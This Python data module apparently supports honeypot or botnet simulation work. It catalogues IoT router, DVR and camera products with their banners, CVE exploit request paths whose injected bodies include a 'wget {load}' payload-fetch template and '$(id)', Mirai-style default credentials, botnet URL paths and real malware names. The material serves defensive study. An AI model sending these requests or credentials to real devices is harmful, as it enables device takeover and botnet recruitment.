"""Device products, what exploits them and how they show themselves; ports, credentials and commands of bot families.

Requests are those of public advisories, with harmless commands in the place of what an attacker would run. Products
that nothing exploits are on partners' lists as well: they must not be accused without reason.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Product(NamedTuple):
    """``device`` is Recog's class. ``banner``: what a scan of its service on ``port`` shows."""

    device: str
    vendor: str
    product: str
    service: str
    port: int
    banner: str


class Exploit(NamedTuple):
    """``path`` and ``body`` may hold ``{load}``: the URL that the device is told to fetch its payload from."""

    cve: str
    product: int  # place in PRODUCTS
    method: str
    path: str
    body: str
    ports: tuple[int, ...]


PRODUCTS: Final = (
    Product("Router", "DrayTek", "Vigor2960", "http", 80, "Server: DrayTek/Vigor2960"),
    Product("Router", "TP-Link", "Archer AX21", "http", 80, "Server: TP-LINK Router"),
    Product("Router", "Huawei", "HG532", "http", 80, "Server: micro_httpd"),
    Product("Router", "Realtek", "SDK", "http", 80, "Server: GoAhead-Webs"),
    Product("Router", "Zyxel", "P660HN", "http", 80, "Server: RomPager/4.07 UPnP/1.0"),
    Product("Router", "D-Link", "DIR-645", "http", 80, "Server: Linux, HTTP/1.1, DIR-645 Ver 1.03"),
    Product(
        "Broadband Router", "Dasan", "GPON ONT", "http", 80,
        'WWW-Authenticate: Basic realm="GPON Home Gateway"',
    ),
    Product("Broadband Router", "Zyxel", "Eir D1000", "http", 7547, "Server: RomPager/4.07"),
    Product("DVR", "TBK", "DVR-4104", "http", 80, "Server: JAWS/1.0"),
    Product("DVR", "MVPower", "TV-7104HE", "http", 80, "Server: JAWS/1.0"),
    Product("IP Camera", "Hikvision", "DS-2CD", "http", 80, "Server: App-webs/"),
    Product("IP Camera", "Dahua", "IPC-HDW", "http", 80, "Server: App-webs/"),
    Product("IP Camera", "Vacron", "NVR", "http", 80, "Server: Boa/0.94.14rc21"),
    Product("NAS", "QNAP", "TS-231", "http", 8080, "Server: http server 1.0"),
    Product("WAP", "Ubiquiti", "NanoStation", "ssh", 22, "SSH-2.0-dropbear_2017.75"),
    Product("Printer", "HP", "LaserJet", "http", 80, "Server: HP HTTP Server; HP LaserJet"),
    Product("VoIP", "Grandstream", "HT802", "http", 80, "Server: Grandstream HT802"),
    Product("Server", "Dell", "PowerEdge", "ssh", 22, "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3"),
)  # fmt: skip
INFECTABLE: Final = 16  # the products before this place

_FETCH: Final = "wget {load}"
EXPLOITS: Final = (
    Exploit("CVE-2020-8515", 0, "POST", "/cgi-bin/mainfunction.cgi", _FETCH, (80, 443, 8443)),
    Exploit(
        "CVE-2023-1389", 1, "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "", (80, 8080),
    ),
    Exploit("CVE-2017-17215", 2, "POST", "/ctrlt/DeviceUpgrade_1", _FETCH, (37215,)),
    Exploit("CVE-2014-8361", 3, "POST", "/picsdesc.xml", "NewInternalClient `" + _FETCH + "`", (52869,)),
    Exploit("CVE-2017-18368", 4, "POST", "/cgi-bin/ViewLog.asp", "remote_host=;" + _FETCH, (80, 8080)),
    Exploit("CVE-2015-2051", 5, "POST", "/HNAP1/", _FETCH, (80, 81, 8080)),
    Exploit("CVE-2018-10561", 6, "GET", "/GponForm/diag_Form?images/", "", (80, 8080)),
    Exploit("CVE-2016-10372", 7, "POST", "/UD/act?1", "<NewNTPServer1>`" + _FETCH + "`</NewNTPServer1>", (7547,)),
    Exploit("CVE-2024-3721", 8, "POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=x", "", (80, 81)),
    Exploit("CVE-2016-20016", 9, "GET", "/shell?cd+/tmp;wget+{load}", "", (60001, 80, 8080)),
    Exploit("CVE-2021-36260", 10, "POST", "/SDK/webLanguage", _FETCH, (80, 81, 8080)),
)  # fmt: skip

TELNET_PORTS: Final = (2323, 26, 80, 81, 8080, 9527, 60023, 2223, 9000)
WEB_PORTS: Final = (
    80,
    81,
    82,
    88,
    8000,
    8080,
    8081,
    8088,
    8443,
    37215,
    52869,
    60001,
    7547,
    5500,
    49152,
    9000,
)
ODD_PORTS: Final = (
    5555,
    7547,
    8291,
    8728,
    37215,
    52869,
    60001,
    9530,
    34567,
    5038,
    4719,
    1588,
    10554,
    7574,
    49152,
)
NOISE_PORTS: Final = (445, 23, 80, 8080, 22, 3389, 443, 1433, 2323, 5555, 6379, 21, 3306, 5900, 25, 8443, 81)
SURVEY_PORTS: Final = (21, 22, 23, 25, 80, 443, 3389, 6379, 8080, 2323)

USERS: Final = ("root", "admin", "user", "support", "default", "guest", "supervisor", "tech")
PASSWORDS: Final = (
    "xc3511", "vizxv", "admin", "1234", "anko", "juantech", "klv123", "GM8182", "jvbzd", "hi3518", "Zte521", "xmhdipc",
    "7ujMko0admin", "", "1", "zlxx", "ikwb", "dreambox", "hunt5759", "tsgoingon", "solokey", "fucker0",
)  # fmt: skip
COMMON_USERS: Final = ("root", "admin", "ubuntu", "pi", "test", "oracle", "postgres")
COMMON_PASSWORDS: Final = ("123456", "password", "root", "admin", "raspberry", "1qaz2wsx", "12345", "test")
URL_BASES: Final = ("/bins/{n}.", "/{n}.", "/.x/{n}.", "/a/{n}.", "/hiddenbin/{n}.", "/d/{n}_", "/{n}/bot.")
GENERIC_BASES: Final = ("/arm.", "/mips.", "/.x/arm.", "/a/arm.", "/bins/x.")
ARCHITECTURES: Final = ("arm", "arm5", "arm7", "mips", "mpsl", "x86", "sh4")
AGENTS: Final = (
    "Mozilla/5.0",
    "Hello, World",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "KrebsOnSecurity",
)

# Systems of honeypots: name of service, port
COWRIE_TELNET, COWRIE_SSH, TANNER, ADBHONEY, HERALDING, DIONAEA = (
    "telnet", "ssh", "http", "adb", "vnc", "mqtt",
)  # fmt: skip

# No malware that exists may be among the made-up names.
REAL_NAMES: Final = frozenset((
    "mirai", "satori", "okiru", "masuta", "owari", "sora", "josho", "miori", "hajime", "mozi", "gafgyt", "bashlite",
    "tsunami", "kaiten", "muhstik", "prometei", "rapper", "moobot", "enemybot", "fodcha", "dark", "wicked", "hakai",
    "torii", "reaper", "amnesia", "persirai", "remaiten", "aidra", "lizard", "qbot",
))  # fmt: skip
